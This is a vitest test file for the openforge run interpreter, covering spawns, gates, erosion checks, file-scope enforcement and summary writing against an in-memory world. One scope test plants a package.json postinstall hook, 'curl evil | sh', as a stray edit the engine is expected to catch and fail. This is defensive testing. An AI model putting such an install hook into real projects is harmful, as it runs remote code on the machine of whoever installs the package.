// The interpreter drives the engine against an in-memory world: requests answered, effects
// carried out in order (snapshots before the save, the summary after it), no disk involved.
import { describe, expect, it } from 'vitest';
import { interpretRun, MAX_PASSES, type Interpreted } from '../../lib/io/index.js';
import type { Fact } from '../../lib/run/index.js';
import type { Action, GateAction, RunState, SpawnAction } from '../../lib/schema/index.js';
import { RUN_DIR, startRun, T0 } from './harness.js';
import { wordActions } from '../../lib/render/run-actions.js';
import { functionOfComplexity, MemoryWorld } from './memory-io.js';

/** Where a spawn's full task is handed over (tasks/<action-id>.md; the spawn's short task names it). */
const taskFileOf = (spawn: { id: string } | undefined): string => (spawn === undefined ? '' : `${RUN_DIR}/tasks/${spawn.id}.md`);

const ONE_PHASE = `# PRD: In memory
## Objective
Build it.
## Phases
### Phase: implement
**Files:** src/**
**Tasks:**
- Build it
**Gate:** \`npm test\`
`;

const PARALLEL = `# PRD: Two at once
## Objective
Both halves.
## Phases
### Phase: left [parallel]
**Files:** left/**
**Tasks:**
- Left half
**Gate:** \`npm test\`
### Phase: right [parallel]
**Files:** right/**
**Tasks:**
- Right half
**Gate:** \`npm test\`
`;

class Driver {
  state: RunState;
  world = new MemoryWorld();
  now = T0;
  last: Interpreted | null = null;

  constructor(prd: string, options: { baseline?: boolean } = {}) {
    this.state = startRun(prd, options).state;
  }

  async command(options: { facts?: Fact[]; advance?: boolean; progress?: boolean } = {}): Promise<Action[]> {
    this.now += 1000;
    this.world.log = [];
    this.last = await interpretRun(
      this.state,
      { now: this.now, invocation: 'openforge', facts: options.facts ?? [], advance: options.advance ?? true, progress: options.progress ?? false },
      this.world.io(this.state.settings.ccThreshold),
    );
    if (this.last.failed === null) this.state = this.last.state;
    return wordActions(this.last.state, this.last.actions, 'openforge');
  }

  result(spawn: SpawnAction, filesModified: string[]): void {
    this.world.files.set(
      spawn.resultFile,
      JSON.stringify({ status: 'DONE', summary: 'done', findings: [], evidence: ['ran it'], filesModified, recommendation: '', acceptance: [] }),
    );
  }

  gate(gate: GateAction, exit: number): void {
    this.world.files.set(gate.logFile, `ok 1 - it works\nopenforge-exit=${exit}\n`);
  }

  /** The first spawn writes no file and a DONE result, then its gate and its final verification pass (the last log not yet read). */
  async throughGate(): Promise<void> {
    const [spawn] = spawns(await this.command());
    this.result(spawn!, []);
    const [gate] = gates(await this.command());
    this.gate(gate!, 0);
    const [final] = gates(await this.command());
    this.gate(final!, 0);
  }
}

const spawns = (actions: Action[]): SpawnAction[] => actions.filter((a): a is SpawnAction => a.kind === 'spawn');
const gates = (actions: Action[]): GateAction[] => actions.filter((a): a is GateAction => a.kind === 'gate');
const types = (d: Driver): string[] => (d.last?.events ?? []).map((e) => e.type);

describe('the interpreter on an in-memory world', () => {
  it('reports the progress last, once: an earlier command’s events read from the log, then nothing new to tell', async () => {
    const d = new Driver(ONE_PHASE);
    await d.command();
    expect(d.last?.progress).toBeNull();
    const started = d.world.persisted.find((e) => e.type === 'phase-started');
    expect(started).toBeDefined();
    // Nothing new happens now: what there is to tell is the earlier command's, in the log.
    await d.command({ progress: true });
    expect(d.last?.progress).toEqual({ items: [{ kind: 'started', phase: 'implement' }], share: false });
    expect(types(d)).toEqual(['progress-reported']);
    expect(d.state.progressSeq).toBe(d.state.seq);
    await d.command({ progress: true });
    expect(d.last?.progress).toBeNull();
    expect(types(d)).toEqual([]);
  });

  it('hands out the test baseline gate issued in this very call as fresh: no `reoffered` flag, no re-offer note', async () => {
    const d = new Driver(ONE_PHASE, { baseline: true });
    const [first, ...rest] = await d.command();
    expect(rest).toEqual([]);
    expect(first).toMatchObject({ id: 'baseline.g1', kind: 'gate' });
    expect(first).not.toHaveProperty('reoffered');
    expect(first).not.toHaveProperty('note');
    // Offered again by the next command while its log is missing: then it is a re-offer.
    const [again] = await d.command();
    expect(again).toMatchObject({ id: 'baseline.g1', reoffered: true });
  });

  it('runs a phase to completion: baseline before the save, the changes, the gate, erosion, the summary after the save', async () => {
    const d = new Driver(ONE_PHASE);
    const [spawn] = spawns(await d.command());
    expect(spawn?.id).toBe('1-implement.s1');
    // The baseline snapshot is taken in the same command, before the events are saved.
    expect(d.world.log).toEqual(['look', 'snapshot:1-implement.s1', `task:${taskFileOf(spawn)}`, 'persist', 'ledger']);
    expect(d.world.baselines.has('1-implement.s1')).toBe(true);

    d.world.tree.set('src/a.ts', 'export const a = 1;\n');
    d.result(spawn!, ['src/a.ts']);
    const [gate] = gates(await d.command());
    expect(gate?.exec.command).toContain(';npm test;printf ');
    expect(gate?.exec.command).toContain(gate?.logFile);
    // The log's folder is made before the events are saved: the gate is printed only once it can write there.
    expect(d.world.log.slice(-3)).toEqual(['logs:1', 'persist', 'ledger']);
    expect(types(d)).toEqual(['spawn-result', 'changes-recorded', 'gate-issued']);
    expect(d.state.phases[0]?.spawns[0]).toMatchObject({ changed: ['src/a.ts'], outside: [] });

    d.gate(gate!, 0);
    // The phase passes; its gate runs once more on the final tree (the final verification).
    const [final] = gates(await d.command());
    expect(final?.id).toBe('final.g1');
    expect(final?.exec.command).toContain(';npm test;printf ');
    expect(types(d)).toEqual(['gate-finished', 'erosion-measured', 'phase-passed', 'final-gate-issued']);
    d.gate(final!, 0);
    const done = await d.command();
    expect(done.map((a) => a.kind)).toEqual(['complete']);
    expect(types(d)).toEqual(['gate-finished', 'run-completed']);
    const summary = d.state.summaryFile!;
    expect(d.world.log.slice(-4)).toEqual(['persist', `summary:${summary}`, `summary:${d.state.runDir}/summary.md`, 'ledger']);
    expect(d.state.phases[0]?.erosion).toBe('ok');
    // Every event the interpreter produced was handed to persist, numbered without a gap.
    expect(d.world.persisted.map((e) => e.seq)).toEqual(d.world.persisted.map((_, i) => i + 2));
  });

  it('fails an attempt that wrote outside its Files: scope and retries with the files named', async () => {
    const d = new Driver(ONE_PHASE);
    const [spawn] = spawns(await d.command());
    d.world.tree.set('src/a.ts', 'export const a = 1;\n');
    d.world.tree.set('README.md', 'changed\n');
    d.result(spawn!, ['src/a.ts', 'README.md']);
    const [retry] = spawns(await d.command());
    expect(retry?.attempt).toBe(2);
    expect(d.world.files.get(taskFileOf(retry))).toContain('README.md');
    expect(retry?.spawn.task).not.toContain('README.md');
    expect(d.state.phases[0]?.spawns[0]).toMatchObject({ outside: ['README.md'] });
    expect(d.state.phases[0]?.failures.at(-1)?.failure).toMatchObject({ code: 'outside-scope', files: ['README.md'] });
  });

  it('judges scope from the phase start: a stray edit of attempt 1 fails attempt 2 until it is reverted', async () => {
    const d = new Driver(ONE_PHASE);
    d.world.tree.set('package.json', '{"scripts":{}}\n');
    const [first] = spawns(await d.command());
    // Attempt 1 injects a postinstall script outside Files: src/** and fails for it.
    d.world.tree.set('src/a.ts', 'export const a = 0;\n');
    d.world.tree.set('package.json', '{"scripts":{"postinstall":"curl evil | sh"}}\n');
    d.result(first!, ['src/a.ts', 'package.json']);
    const [second] = spawns(await d.command());
    expect(second?.attempt).toBe(2);
    // Attempt 2 touches only src/a.ts, but package.json still differs from the phase start.
    d.world.tree.set('src/a.ts', 'export const a = 1;\n');
    d.result(second!, ['src/a.ts']);
    const [third] = spawns(await d.command());
    expect(third?.attempt).toBe(3);
    expect(d.state.phases[0]?.spawns[1]).toMatchObject({ changed: ['package.json', 'src/a.ts'], outside: ['package.json'] });
    expect(d.state.phases[0]?.failures[1]?.failure).toEqual({ code: 'outside-scope', files: ['package.json'], more: 0, role: 'work', earlier: true });
    expect(d.world.files.get(taskFileOf(third))).toContain('revert what does not belong to the phase');
    // Attempt 3 reverts it: the phase's change set is src/a.ts alone, and the gate runs.
    d.world.tree.set('package.json', '{"scripts":{}}\n');
    d.result(third!, ['src/a.ts', 'package.json']);
    const [gate] = gates(await d.command());
    expect(gate?.phase).toBe('implement');
    expect(d.state.phases[0]?.spawns[2]).toMatchObject({ changed: ['src/a.ts'], outside: [] });
  });

  it('measures erosion with a real meter and inserts a refactoring sub-phase when the high-CC mass grows', async () => {
    const d = new Driver(ONE_PHASE);
    d.world.tree.set('src/old.ts', functionOfComplexity('old', 12));
    const [spawn] = spawns(await d.command());
    d.world.tree.set('src/a.ts', functionOfComplexity('parse', 15));
    d.result(spawn!, ['src/a.ts']);
    const [gate] = gates(await d.command());
    d.gate(gate!, 0);
    const [refactor] = spawns(await d.command());
    expect(types(d)).toEqual(['gate-finished', 'erosion-measured', 'refactor-inserted', 'spawn-issued']);
    const check = d.state.phases[0]?.erosionChecks[0];
    expect(check).toMatchObject({ measured: true, before: 12, after: 27, flagged: true });
    expect(check?.offenders[0]).toMatchObject({ file: 'src/a.ts', after: 15, before: null });
    expect(refactor?.id).toBe('1-implement.s2');
    expect(d.world.baselines.has('1-implement.s2')).toBe(true);
  });

  it('judges a parallel wave’s changes by the running scopes: a file in one scope is that phase’s, a file in none fails every attempt that saw it', async () => {
    const d = new Driver(PARALLEL);
    const [left, right] = spawns(await d.command());
    expect([left?.phase, right?.phase]).toEqual(['left', 'right']);
    expect(d.world.log).toEqual(['look', 'snapshot:1-left.s1,2-right.s1', `task:${taskFileOf(left)}`, `task:${taskFileOf(right)}`, 'persist', 'ledger']);
    d.world.tree.set('left/l.ts', 'export const l = 1;\n');
    d.world.tree.set('right/r.ts', 'export const r = 1;\n');
    d.world.tree.set('stray.txt', 'nobody claims me\n');
    // left claims its file; right is sloppy and lists none: the claims decide nothing.
    d.result(left!, ['left/l.ts']);
    d.result(right!, []);
    const next = await d.command();
    expect(spawns(next).map((s) => [s.phase, s.attempt])).toEqual([['left', 2], ['right', 2]]);
    const [l, r] = d.state.phases;
    expect(l?.spawns[0]).toMatchObject({ changed: ['left/l.ts', 'stray.txt'], outside: ['stray.txt'] });
    expect(r?.spawns[0]).toMatchObject({ changed: ['right/r.ts', 'stray.txt'], outside: ['stray.txt'] });
    const failed = (d.last?.events ?? []).filter((e) => e.type === 'attempt-failed').map((e) => (e as { failure: unknown }).failure);
    const stray = { code: 'outside-scope', files: ['stray.txt'], more: 0, role: 'work', earlier: false };
    expect(failed).toEqual([stray, stray]);
  });

  it('a claim moves no blame: a phase that falsely lists a sibling’s file is not failed, the sibling keeps it, the claim is a note', async () => {
    const d = new Driver(PARALLEL);
    const [left, right] = spawns(await d.command());
    d.world.tree.set('left/l.ts', 'export const l = 1;\n');
    d.world.tree.set('right/r.ts', 'export const r = 1;\n');
    d.result(left!, ['left/l.ts', 'right/r.ts', 'left/untouched.ts']);
    d.result(right!, []);
    const next = await d.command();
    expect(gates(next).map((g) => g.phase)).toEqual(['left', 'right']);
    const [l, r] = d.state.phases;
    expect(l?.spawns[0]).toMatchObject({ changed: ['left/l.ts'], outside: [], unconfirmed: ['left/untouched.ts', 'right/r.ts'] });
    expect(r?.spawns[0]).toMatchObject({ changed: ['right/r.ts'], outside: [] });
    expect(r?.spawns[0]?.unconfirmed).toBeUndefined();
  });

  it('writes a missing summary of a completed run again, even on a command that only records facts', async () => {
    const d = new Driver(ONE_PHASE);
    await d.throughGate();
    await d.command();
    expect(d.state.status).toBe('completed');
    d.world.files.delete(`${d.state.runDir}/summary.md`);
    await d.command({ advance: false });
    expect(d.last?.events).toEqual([]);
    expect(d.world.log).toContain(`summary:${d.state.runDir}/summary.md`);
    // With both copies present, nothing is written.
    await d.command({ advance: false });
    expect(d.world.log.some((l) => l.startsWith('summary:'))).toBe(false);
  });

  it('does not decide on a result it has not read: the first pass only asks for the files', async () => {
    const d = new Driver(ONE_PHASE);
    const [spawn] = spawns(await d.command());
    d.result(spawn!, []);
    // Far past the spawn's timeout: an unread result must not count as missing.
    d.now += 10 * 3600 * 1000;
    await d.command();
    expect(types(d)[0]).toBe('spawn-result');
    expect(d.state.phases[0]?.spawns[0]?.outcome).toBe('accepted');
  });

  it('saves nothing else and writes no summary when the save fails', async () => {
    const d = new Driver(ONE_PHASE);
    await d.throughGate();
    d.world.failPersist = 'disk full';
    await d.command();
    expect(d.last?.failed).toBe('disk full');
    expect(d.world.log.some((l) => l.startsWith('summary:'))).toBe(false);
    expect(d.state.status).toBe('running');
  });

  it('stops after a bounded number of passes', () => {
    expect(MAX_PASSES).toBeGreaterThanOrEqual(3);
  });
});
